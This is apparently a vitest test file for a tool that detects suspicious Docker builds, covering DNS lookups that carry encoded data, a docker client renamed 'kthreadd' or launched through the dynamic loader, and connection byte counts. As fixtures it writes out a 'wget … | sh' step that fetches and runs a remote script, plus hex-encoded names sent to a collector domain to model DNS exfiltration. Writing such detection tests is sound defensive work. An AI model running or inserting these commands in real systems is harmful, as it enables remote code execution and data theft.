import { describe, expect, it } from 'vitest';
import type { Tables } from '../model/generated/tables.js';
import { fold, type Told } from './fixtures/fold.js';
import { type Actor, executor, id64, image, Story } from './fixtures/host.js';
import { namesToldLate, sorted, tagged } from './fixtures/stories.js';

function only<T>(items: Iterable<T>): T {
  const all = [...items];
  expect(all).toHaveLength(1);
  return all[0] as T;
}

const evidenceOf = (told: Told) =>
  Object.fromEntries(
    (only(told.incidents.values()).Evidence as { Id: string; Weight: number }[]).map((each) => [
      each.Id,
      each.Weight,
    ]),
  );

/** A build from /tmp whose step looks names up and connects to nothing. */
function lookingUp(names: string[], more: (story: Story, shell: Actor) => void = () => {}): Story {
  const story = new Story();
  const client = story.exec(1, story.bash, ['docker', 'build', '-t', 'tool', '/tmp/x']);
  story.socket(1.05, client);
  const shell = story.buildkitStep(1.5, 5, 50, 'sh send.sh');
  names.forEach((name, index) => story.lookup(2 + index / 100, shell, name, [], executor(50)));
  more(story, shell);
  story.image(5.4, 'ImageTagged', image(3), tagged('tool:latest', ['sh send.sh'], 5, {}, true));
  story.exit(5.5, client);
  story.run(6, 60, 3, 'tool');
  story.rows.splice(0, story.rows.length, ...sorted(story));
  return story;
}

describe('names that a step looks up', () => {
  it('stand in the step, and are no connections', () => {
    const told = fold(lookingUp(['deb.debian.org']), { until: 400 });
    const step = only(told.steps.values());
    expect(step.Lookups).toMatchObject([
      { Name: 'deb.debian.org', QueryType: 'A', Resolver: '192.0.2.53' },
    ]);
    expect(step.Connections).toEqual([]);
    expect(only(told.builds.values()).RemoteAddresses).toEqual([]);
    expect(evidenceOf(told)).not.toHaveProperty('data-in-names');
  });

  it('are evidence where they look like data and lead nowhere', () => {
    const hex = '414b49414558414d504c45';
    const one = fold(lookingUp([`${hex}.x.collect.example`]), { until: 400 });
    expect(evidenceOf(one)).toMatchObject({ 'data-in-names': 2 });
    expect(only(one.incidents.values()).Techniques).toContain('T1048.003');
    const five = lookingUp(
      ['1', '2', '3', '4', '5'].map((n) => `${hex}${n}${n}.x.collect.example`),
    );
    expect(evidenceOf(fold(five, { until: 400 }))).toMatchObject({ 'data-in-names': 3 });
  });

  it('are none where they were connected to, as those of stores for objects are', () => {
    const name = '6aa30f8b08e16409b46e0173d6de2f56.r2.storage.example';
    const story = lookingUp([], (made, shell) => {
      made.lookup(2, shell, name, ['198.51.100.7'], executor(50));
      made.connect(2.1, shell, '198.51.100.7', 443, executor(50));
    });
    expect(evidenceOf(fold(story, { until: 400 }))).not.toHaveProperty('data-in-names');
  });
});

describe('names that are told after their connections', () => {
  it('are those of the steps and of the daemon', () => {
    const told = fold(namesToldLate(), { until: 400 });
    expect(only(told.steps.values()).Connections).toMatchObject([
      { RemoteIP: '203.0.113.9', RemoteUrl: 'first.example' },
      { RemoteIP: '203.0.113.9', RemoteUrl: 'second.example' },
    ]);
    const { AdditionalFields } = only(told.builds.values());
    expect(AdditionalFields).toMatchObject({
      DaemonConnections: [{ RemoteIP: '198.51.100.9', RemoteUrl: 'registry-1.docker.io' }],
    });
    expect(evidenceOf(told)).not.toHaveProperty('daemon-external');
  });
});

describe('a client under another name', () => {
  const build = (
    more: Partial<Tables['DeviceProcessEvents']>,
    args = ['./kthreadd', 'build', '/tmp/x'],
  ): Told => {
    const story = new Story();
    const client = story.exec(1, story.bash, args, { more });
    story.socket(1.05, client);
    story.classicStep(1.5, 3, 50, 1, 'wget -qO- http://203.0.113.9/x.sh | sh');
    story.image(
      3.4,
      'ImageTagged',
      image(3),
      tagged('evil:latest', ['x'], 3, { BuildContainerId: id64(50) }),
    );
    story.exit(3.5, client);
    return fold(story, { until: 400 });
  };

  it('is known by its file', () => {
    const sha256 = 'ab'.repeat(32);
    const told = build({
      SHA256: sha256,
      AdditionalFields: { ProgramName: 'docker', ProgramNameBasis: 'hash' },
    });
    expect(only(told.builds.values())).toMatchObject({
      RequesterFileName: 'kthreadd',
      RequesterSHA256: sha256,
      RequesterIdentity: 'docker (by hash)',
    });
    expect(evidenceOf(told)).toMatchObject({ 'unusual-client': 3 });
    expect(JSON.stringify(only(told.incidents.values()).Evidence)).toContain(
      'kthreadd, which is docker (by hash) under another name',
    );
  });

  it('is said to be none by name where its file was not read', () => {
    expect(evidenceOf(build({}))).toMatchObject({ 'unusual-client': 2 });
  });

  it('is told by its file, and not by what it calls itself', () => {
    const told = build({ FileName: 'kthreadd' }, ['docker', 'build', '/tmp/x']);
    expect(evidenceOf(told)).toMatchObject({ 'unusual-client': 2, 'temp-path': 3 });
  });

  it.each(['ld-linux-x86-64.so.2', 'ld-2.31.so', 'ld-musl-x86_64.so.1'])(
    'is read by the arguments of %s, which runs it',
    (FileName) => {
      const line = [`/lib64/${FileName}`, '--argv0', 'x', '/usr/bin/docker', 'build', '/tmp/x'];
      const told = build({ FileName }, line);
      expect(only(told.builds.values())).toMatchObject({
        RequesterFileName: FileName,
        RequesterIdentity: 'docker (by what the loader was told to run)',
        RequesterCommandLine: line.join(' '),
        ContextPath: '/tmp/x',
      });
      expect(evidenceOf(told)).toMatchObject({ 'unusual-client': 3 });
    },
  );
});

describe('ends of connections', () => {
  const ended = (isFirst: boolean): Story =>
    lookingUp([], (made, shell) => {
      const close = () => made.closed(3, shell, '203.0.113.9', 80, [90, 4_200_000], executor(50));
      if (isFirst) close();
      made.connect(2, shell, '203.0.113.9', 80, executor(50));
      if (!isFirst) close();
    });

  it.each([false, true])('tell how much was said, also when they come first: %s', (isFirst) => {
    const told = fold(ended(isFirst), { until: 400 });
    expect(only(told.steps.values()).Connections).toMatchObject([
      { RemoteIP: '203.0.113.9', BytesSent: 90, BytesReceived: 4_200_000 },
    ]);
  });
});
